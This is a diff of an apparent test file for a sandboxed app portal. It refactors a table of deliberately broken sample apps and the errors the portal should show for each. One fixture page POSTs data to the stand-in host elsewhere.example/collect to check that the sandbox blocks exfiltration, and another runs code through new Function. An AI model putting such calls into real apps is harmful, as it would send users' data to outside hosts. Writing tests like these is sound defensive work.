@@ -42,7 +42,8 @@ const broken: readonly Broken[] = [
   {
     what: 'its page throws when it gets an answer',
     page: `${goodPage.replace('if (error)', `if (data) throw new Error('No parcels')\n  if (error)`)}`,
-    ...{ maker: /No parcels/, person: failed },
+    maker: /No parcels/,
+    person: failed,
   },
   {
     what: 'its card never ends to begin',
@@ -54,47 +55,55 @@ const broken: readonly Broken[] = [
   {
     what: 'it needs another SDK',
     sdk: '^2.0.0',
-    ...{ maker: /needs the SDK \^2\.0\.0/, person: /the app Parcels by Parcels Ltd, needs a newer version/ },
+    maker: /needs the SDK \^2\.0\.0/,
+    person: /the app Parcels by Parcels Ltd, needs a newer version/,
     operator: /does not fit the portal: it needs the SDK \^2\.0\.0/,
   },
   {
     what: 'it calls what it has no scope for',
     page: `const { error } = useEndpoint(enquiriesApi.listAll, {})
   ${showing('{error ? <LoadFailed error={error} /> : null}')}`,
-    ...{ maker: /GET \/api\/app\/enquiries: 403 insufficient_scope/, person: 'Could not load this' },
+    maker: /GET \/api\/app\/enquiries: 403 insufficient_scope/,
+    person: 'Could not load this',
   },
   {
     what: 'it runs text as code',
     page: `useEffect(() => { new Function('return 1')() }, [])
   ${showing('')}`,
-    ...{ maker: /Content Security Policy/, person: failed },
+    maker: /Content Security Policy/,
+    person: failed,
   },
   {
     what: 'it loads a picture from elsewhere',
     page: showing('<img alt="A parcel" src="https://elsewhere.example/parcel.png" />'),
-    ...{ maker: /Loading the image .* violates/, person: rendered },
+    maker: /Loading the image .* violates/,
+    person: rendered,
   },
   {
     what: 'it sends data elsewhere',
     page: `useEffect(() => { void fetch('https://elsewhere.example/collect', { method: 'POST', body: 'x' }) }, [])
   ${showing('')}`,
-    ...{ maker: /An app in a sandbox reaches the API and its own backend alone/, person: rendered },
+    maker: /An app in a sandbox reaches the API and its own backend alone/,
+    person: rendered,
   },
   {
     what: 'people cannot use it with a screen reader',
     page: showing('<button className="size-6" /><input />'),
-    ...{ maker: /Buttons must have discernible text/, person: rendered },
+    maker: /Buttons must have discernible text/,
+    person: rendered,
   },
   {
     what: 'its text is hardly seen',
     page: showing('<p style={{ color: "#bbb", background: "#fff" }}>For nobody</p>'),
-    ...{ maker: /color contrast/i, person: rendered },
+    maker: /color contrast/i,
+    person: rendered,
   },
   {
     what: 'it is huge',
     page: `const text = ${JSON.stringify(Array.from({ length: 90_000 }, (_, at) => ((at * 2_654_435_761) % 4_294_967_296).toString(36)).join(''))}
   ${showing('<p className="text-fg">{text.charCodeAt(performance.now() % 9)}</p>')}`,
-    ...{ maker: /\/parcels loads \d+ kB compressed, and may load 250 kB/, person: rendered },
+    maker: /\/parcels loads \d+ kB compressed, and may load 250 kB/,
+    person: rendered,
   },
   {
     what: 'its card holds up the page',
@@ -108,7 +117,8 @@ const broken: readonly Broken[] = [
   {
     what: 'it does not say what a scope is for',
     app: appOf({ purposes: {} }),
-    ...{ maker: /leads:read has no purpose/, person: rendered },
+    maker: /leads:read has no purpose/,
+    person: rendered,
   },
   { what: 'its tests fail', test: 'node -e "process.exit(1)"', maker: /npm test failed/, person: rendered },
   {
@@ -209,7 +219,8 @@ deliveryJourney(
     const { admin } = await createOrganization()
     const app = 'mfe-stamps2'
     const appDir = await buildApp(app, {
-      ...{ path: '/stamps', app: appOf({ title: 'Stamps', maker: 'Stamps Ltd' }) },
+      path: '/stamps',
+      app: appOf({ title: 'Stamps', maker: 'Stamps Ltd' }),
       page: `useEffect(() => { throw new Error('No stamps for ${admin.email}') }, [])
   ${showing('')}`,
     })
